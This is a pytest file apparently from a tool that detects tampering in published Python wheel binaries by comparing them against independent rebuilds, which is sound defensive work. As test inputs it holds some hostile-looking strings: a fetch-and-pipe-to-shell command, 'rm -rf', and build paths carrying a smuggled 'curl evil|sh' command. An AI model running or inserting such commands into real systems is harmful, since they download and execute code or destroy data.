"""The toolchain-invariant checks: each tampering named, honest pairs silent, hostile input bounded.

The acceptance tests take real published wheels (MarkupSafe 2.1.5 and msgpack 1.0.8, cp311
manylinux2014, built by upstream with GCC 10) and rebuild them here in the bookworm image (GCC
12): another compiler, so that only the invariants can tell a tampered object from an honest one.
Every kind of tampering of :mod:`compare.tamper` is applied to the published extension and must
be named (check, what, where); the honest published extension must give no finding at all.
The unmarked tests feed the checks objects compiled by the host's gcc, then broken on purpose.
"""

from __future__ import annotations

import functools
import random
import subprocess
import zipfile
from pathlib import Path

import pytest
from conftest import published_wheel

from compare.elf_builds import host_shared_object
from compare.tamper import (
    PATCHES,
    PAYLOAD,
    Patch,
    add_call,
    add_syscall,
    edit_comment,
    extension_member,
    flip_branch,
    inject_string,
    retarget_constructor,
    retarget_relocation,
    swap_methods,
    tampered_wheel,
)
from rebuild.compare.elf_invariants import (
    MAX_FINDINGS,
    Invariant,
    InvariantFinding,
    _present,
    _splat,
    invariant_findings,
)
from rebuild.compare.elf_read import ElfImage, read_elf
from rebuild.errors import ArchiveError
from rebuild.models import Target, WheelSelector
from rebuild.pipeline import CheckOptions, check

Expected = set[tuple[Invariant, str, str]]


def _rebuilt_pair(spec: str, cache: Path) -> tuple[Path, Path]:
    """(published wheel, wheel rebuilt here by the bookworm image's GCC 12)."""
    report = check(
        Target.parse(spec),
        WheelSelector(python="3.11", platform="manylinux_2_17_x86_64"),
        CheckOptions(cache_dir=cache),
    )
    assert report.build is not None and report.release is not None, report.failure
    assert report.release.wheel is not None
    published = published_wheel(cache, report)
    return published, report.build.wheel


def _extension(wheel: Path) -> bytes:
    with zipfile.ZipFile(wheel) as archive:
        return archive.read(extension_member(wheel))


@pytest.fixture(scope="module")
def markupsafe(shared_cache: Path) -> tuple[Path, ElfImage]:
    published, rebuilt = _rebuilt_pair("markupsafe==2.1.5", shared_cache)
    return published, read_elf(_extension(rebuilt))


@pytest.fixture(scope="module")
def msgpack(shared_cache: Path) -> tuple[Path, ElfImage]:
    published, rebuilt = _rebuilt_pair("msgpack==1.0.8", shared_cache)
    return published, read_elf(_extension(rebuilt))


def _findings(published: bytes, rebuilt: ElfImage) -> set[tuple[Invariant, str, str]]:
    return {(f.check, f.what, f.where) for f in invariant_findings(read_elf(published), rebuilt)}


PAYLOAD_TEXT = PAYLOAD.decode()
# What each tampering of MarkupSafe's _speedups must be named by (each finding a subset).
MARKUPSAFE: dict[str, Expected] = {
    # A flipped branch changes no string, call, pointer or export: under another compiler no
    # invariant can see it. The same-compiler path (instructions compared one for one) does.
    "branch-flipped": set(),
    "string-injected": {(Invariant.STRINGS, PAYLOAD_TEXT, ".rodata")},
    "comment-and-code": {(Invariant.SYSCALLS, "1 more", "escape")},
    "constructor-retargeted": {(Invariant.CONSTRUCTORS, "escape_silent", ".init_array")},
    "methods-swapped": {
        (Invariant.RELOCATIONS, "escape_silent (rebuilt: escape)", "module_methods+0x8"),
        (Invariant.RELOCATIONS, "escape (rebuilt: escape_silent)", "module_methods+0x28"),
    },
    "syscall-added": {(Invariant.SYSCALLS, "1 more", "escape")},
    "call-added": {(Invariant.CALLS, "escape_unicode", "PyInit__speedups")},
}


@pytest.mark.docker
@pytest.mark.network
def test_the_honest_markupsafe_extension_gives_no_finding(
    markupsafe: tuple[Path, ElfImage],
) -> None:
    published, rebuilt = markupsafe
    assert invariant_findings(read_elf(_extension(published)), rebuilt) == ()


@pytest.mark.docker
@pytest.mark.network
@pytest.mark.parametrize("kind", sorted(PATCHES))
def test_each_tampering_of_markupsafe_is_named(
    kind: str, markupsafe: tuple[Path, ElfImage], tmp_path: Path
) -> None:
    published, rebuilt = markupsafe
    # Tampered the way it would be shipped: the wheel's RECORD agrees with the patched member.
    wheel = tampered_wheel(published, tmp_path / published.name, PATCHES[kind])
    found = _findings(_extension(wheel), rebuilt)
    expected = MARKUPSAFE[kind]
    assert expected <= found
    if not expected:
        assert found == set()


def _msgpack_patches() -> dict[str, tuple[Patch, Expected]]:
    unpack = "_Z14unpack_executeILb0EEiP14unpack_contextPKclPl"
    import_from = "_ZL16__Pyx_ImportFromP7_objectS0_"
    create = "_ZL18__pyx_pymod_createP7_objectP11PyModuleDef"
    ready = "_ZL18__Pyx_PyType_ReadyP11_typeobject"
    packer = "_ZL40__pyx_methods_7msgpack_9_cmsgpack_Packer"
    return {
        "branch-flipped": (functools.partial(flip_branch, function=unpack), set()),
        "string-injected": (inject_string, {(Invariant.STRINGS, PAYLOAD_TEXT, "")}),
        "comment-and-code": (
            lambda data: add_syscall(edit_comment(data), function=import_from),
            {(Invariant.SYSCALLS, "1 more", import_from)},
        ),
        "constructor-retargeted": (
            functools.partial(retarget_constructor, target=create),
            {(Invariant.CONSTRUCTORS, create, ".init_array")},
        ),
        "methods-swapped": (functools.partial(swap_methods, table=packer), set()),
        "syscall-added": (
            functools.partial(add_syscall, function=import_from),
            {(Invariant.SYSCALLS, "1 more", import_from)},
        ),
        "call-added": (
            functools.partial(add_call, caller=ready, callee=import_from),
            {(Invariant.CALLS, import_from, ready)},
        ),
    }


@pytest.mark.docker
@pytest.mark.network
def test_msgpack_honest_is_silent_and_each_tampering_is_named(
    msgpack: tuple[Path, ElfImage],
) -> None:
    published, rebuilt = msgpack
    honest = _extension(published)
    assert invariant_findings(read_elf(honest), rebuilt) == ()
    for kind, (patch, expected) in _msgpack_patches().items():
        found = _findings(patch(honest), rebuilt)
        if kind == "branch-flipped":
            assert found == set(), kind  # invisible to the invariants, as for MarkupSafe
            continue
        assert found, kind
        checks = {c for c, _, _ in found}
        if kind == "string-injected":
            # Where it lands depends on the data's layout; what it is does not.
            assert (Invariant.STRINGS, PAYLOAD_TEXT) in {(c, w) for c, w, _ in found}
        elif kind == "methods-swapped":
            assert checks == {Invariant.RELOCATIONS}
            assert all(where.startswith("_ZL40__pyx_methods") for _, _, where in found)
        else:
            assert expected <= found, kind


# --- objects compiled here, then broken -------------------------------------------------------

MODULE = """\
#include <stddef.h>
static const char *messages[] = {MESSAGES};
__attribute__((noinline)) static long helper(long x) { return x * 7 + (long)messages[x & 1]; }
long exported(long x) { return helper(x) + 1; }
static volatile int loaded;
__attribute__((constructor)) static void at_load(void) { loaded = 1; }
"""


def _compile(tmp_path: Path, name: str, messages: list[str]) -> bytes:
    source = tmp_path / f"{name}.c"
    quoted = ", ".join(f'"{m}"' for m in messages) or '"", ""'
    source.write_text(MODULE.replace("MESSAGES", quoted), encoding="utf-8")
    out = tmp_path / f"{name}.so"
    subprocess.run(
        ["gcc", "-O2", "-g", "-fPIC", "-shared", str(source), "-o", str(out)],
        check=True,
        capture_output=True,
    )
    return out.read_bytes()


def test_initialisers_relocations_and_producers_are_read(tmp_path: Path) -> None:
    image = read_elf(_compile(tmp_path, "m", ["first message", "second message"]))
    tables = [entry.table for entry in image.initialisers]
    # frame_dummy and our constructor in .init_array, and the C runtime's DT_INIT / DT_FINI.
    assert tables.count(".init_array") >= 2
    assert "DT_INIT" in tables or "DT_FINI" in tables
    assert any(r.kind == 8 for r in image.relocations)  # R_X86_64_RELATIVE
    assert image.producers and image.producers[0].startswith("GNU C")


TEXT_RELOCATED = """\
#include <stdio.h>
#include <stdlib.h>
/* An absolute address in an instruction: the linker makes it a text relocation (DT_TEXTREL). */
void *pick(void) { void *p; __asm__("movabs $puts, %0" : "=r"(p)); return p; }
int use(const char *s) { return system(s) + puts(s); }
"""


GOT_LOADED = """\
#include <stdlib.h>
int cb_a(int x) { return x + 1; }
int cb_b(int x) { return system("true") + x; }
/* An exported function's address, taken under -fPIC: loaded from a GOT slot (GLOB_DAT cb_a). */
int (*get(void))(int) { return cb_a; }
"""


def test_a_text_relocation_re_aimed_at_another_import_is_named(tmp_path: Path) -> None:
    # The instruction's bytes are the same either way (the loader writes the address): only
    # the relocation says which import `pick` hands out. Re-aimed from puts to system, both
    # imported, the code comparison sees nothing; the relocation check must.
    honest = host_shared_object(tmp_path, "textrel", TEXT_RELOCATED)
    absolute = 1  # R_X86_64_64: the text relocation (puts has a JUMP_SLOT too)
    tampered = read_elf(retarget_relocation(honest, "puts", absolute, "system"))
    found = invariant_findings(tampered, read_elf(honest))
    assert (Invariant.RELOCATIONS, "system (rebuilt: puts)") in {(f.check, f.what) for f in found}
    assert all(f.where.startswith("pick+") for f in found if f.check is Invariant.RELOCATIONS)
    assert invariant_findings(read_elf(honest), read_elf(honest)) == ()


def test_a_got_slot_re_aimed_at_another_defined_function_is_named(tmp_path: Path) -> None:
    # `get` loads &cb_a from the GOT; the slot re-aimed at cb_b (which calls system) leaves
    # `get`'s code as it was.
    honest = host_shared_object(tmp_path, "got", GOT_LOADED)
    glob_dat = 6  # R_X86_64_GLOB_DAT
    tampered = read_elf(retarget_relocation(honest, "cb_a", glob_dat, "cb_b"))
    found = invariant_findings(tampered, read_elf(honest))
    assert (Invariant.RELOCATIONS, "cb_b", ".got") in {(f.check, f.what, f.where) for f in found}
    assert invariant_findings(read_elf(honest), read_elf(honest)) == ()


def test_an_object_against_itself_gives_no_finding(tmp_path: Path) -> None:
    image = read_elf(_compile(tmp_path, "m", ["first message", "second message"]))
    assert invariant_findings(image, image) == ()


def test_findings_are_capped(tmp_path: Path) -> None:
    many = [f"message number {n:04} of a long list" for n in range(MAX_FINDINGS + 50)]
    published = read_elf(_compile(tmp_path, "p", many))
    rebuilt = read_elf(_compile(tmp_path, "r", []))
    strings = [f for f in invariant_findings(published, rebuilt) if f.check is Invariant.STRINGS]
    assert len(strings) == MAX_FINDINGS + 1
    assert strings[-1].what.startswith("(and ")


def test_a_spent_deadline_fails_closed(tmp_path: Path) -> None:
    image = read_elf(_compile(tmp_path, "m", ["first message"]))
    found = invariant_findings(image, image, deadline=lambda: True)
    # Nothing checked is never "nothing found": every check says it was cut short.
    assert {f.check for f in found} == set(Invariant)
    assert all(f.what.startswith("(not checked") for f in found)


def test_build_directory_prefixes_differ_narrowly() -> None:
    from rebuild.compare.elf_invariants import _only_build_dir_differs

    tails = frozenset({"/src/module.c"})
    assert _only_build_dir_differs("/home/runner/work/src/module.c", tails)
    # A directory part an attacker could carry a command in is not a build directory.
    assert not _only_build_dir_differs("/tmp/x;curl evil|sh/src/module.c", tails)
    assert not _only_build_dir_differs("curl evil /src/module.c", tails)
    assert not _only_build_dir_differs("/home/runner/work/src/other.c", tails)


def _mutants(data: bytes, count: int, seed: int) -> list[bytes]:
    rng = random.Random(seed)  # noqa: S311 -- reproducible mutations, not secrets
    found = [data[: len(data) // 2], data[: len(data) - 100]]
    for _ in range(count):
        mutant = bytearray(data)
        for _ in range(rng.randint(1, 40)):
            mutant[rng.randrange(64, len(mutant))] = rng.randrange(256)
        found.append(bytes(mutant))
    return found


def test_malformed_objects_never_raise(tmp_path: Path) -> None:
    data = _compile(tmp_path, "m", ["first message", "second message"])
    honest = read_elf(data)
    checked = 0
    for mutant in _mutants(data, 60, seed=20240202):
        try:
            image = read_elf(mutant)
        except ArchiveError:
            continue  # headers not trusted: the analyser reports that itself
        checked += 1
        for pair in ((image, honest), (honest, image)):
            found = invariant_findings(*pair)
            assert all(isinstance(f, InvariantFinding) for f in found)
    assert checked > 30


@pytest.mark.parametrize(
    ("text", "splat"),
    [
        ("}Q=XL}>XL}>XL}>XL}>XL}>XL}>XL}>XL}>", True),  # a float broadcast, after another's tail
        ("ABCDABCDABCDABCD", True),
        ("curl -s http://198.51.100.7/x|sh", False),
        ("rm -rf ////////////////", False),  # a command before the repeat is not a constant
        ("deletion", False),
    ],
)
def test_repeated_constants_are_not_strings(text: str, splat: bool) -> None:
    assert _splat(text) is splat


def test_a_short_word_glued_to_a_constant_is_not_a_string() -> None:
    # "P@" is the tail of a float constant, "trunc" a word too short to compare on its own.
    assert _present("P@trunc", set(), b"")
    assert not _present("P@truncate-everything", set(), b"")
